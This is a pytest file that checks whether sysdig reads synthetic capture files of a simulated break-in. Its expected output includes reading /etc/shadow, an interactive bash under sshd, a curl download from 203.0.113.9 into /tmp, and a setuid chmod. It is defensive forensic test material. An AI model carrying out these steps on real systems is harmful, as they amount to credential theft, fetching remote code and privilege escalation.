"""Debian's sysdig reads what is written, and sees the same processes, paths and tuples.

sysdig 0.29 skips events newer than its own table (accept4, dup2, pipe2, container metadata), takes the descriptor of a
read or a connect from enter events, which current captures do not have, and the user of a setuid likewise.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from tests.capture.stories import break_in

SYSDIG = shutil.which("sysdig")
pytestmark = pytest.mark.skipif(SYSDIG is None, reason="sysdig is not installed (apt-get install sysdig)")


def sysdig(path: Path, form: str) -> list[str]:
    command = [str(SYSDIG), "-r", str(path), "-p", f"*{form}"]
    result = subprocess.run(command, capture_output=True, text=True, timeout=60, check=True)
    return result.stdout.splitlines()


@pytest.mark.parametrize("suffix", ["", ".gz"])
def test_names_paths_and_tuples(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"story.scap{suffix}"
    break_in().write(path)
    lines = sysdig(path, "%proc.name %evt.type %evt.info")
    text = "\n".join(lines)
    assert "nginx bind res=0 addr=0.0.0.0:80" in text
    assert "sh openat fd=5(<f>/etc/shadow) dirfd=-100(AT_FDCWD) name=/etc/shadow flags=1(O_RDONLY)" in text
    assert "curl connect res=0 tuple=10.0.0.5:40001->203.0.113.9:80" in text
    assert "curl recvfrom res=17 data=HTTP/1.1 200 OK.. tuple=203.0.113.9:80->10.0.0.5:40001" in text
    assert "curl openat fd=4(<f>/tmp/x) dirfd=-100(AT_FDCWD) name=x(/tmp/x) flags=262(O_TRUNC|O_CREAT|O_WRONLY)" in text
    assert "bash fchmodat res=0 dirfd=-100(AT_FDCWD) filename=x(/tmp/x) mode=04755" in text
    assert "bash rename res=-13(EACCES) oldpath=x(/tmp/x) newpath=/usr/bin/y" in text
    assert "bash connect res=-111(ECONNREFUSED)" in text
    assert "bash mount res=0 dev=/dev/sda1 dir=/mnt type=ext4" in text
    assert "bash procexit status=9 ret=0 sig=9(SIGKILL)" in text


def test_processes(tmp_path: Path) -> None:
    path = tmp_path / "story.scap"
    break_in().write(path)
    lines = sysdig(path, "%evt.type|%proc.cmdline|%proc.pname|%user.name|%container.id|%thread.tid|%proc.cwd")
    execs = [line for line in lines if line.startswith("execve")]
    container = break_in().container("web", image="nginx:1.25")
    assert len(container.id) == 12
    assert [line.split("|")[1:4] for line in execs] == [
        ["sh -c cat /etc/shadow", "nginx", "root"],
        ["bash -i", "sshd", "root"],
        ["curl -o x http://203.0.113.9/x", "bash", "app"],
    ]
    assert [len(line.split("|")[4]) for line in execs] == [12, 4, 4]  # a container's id, then host twice
    assert execs[2].endswith("|/tmp/")
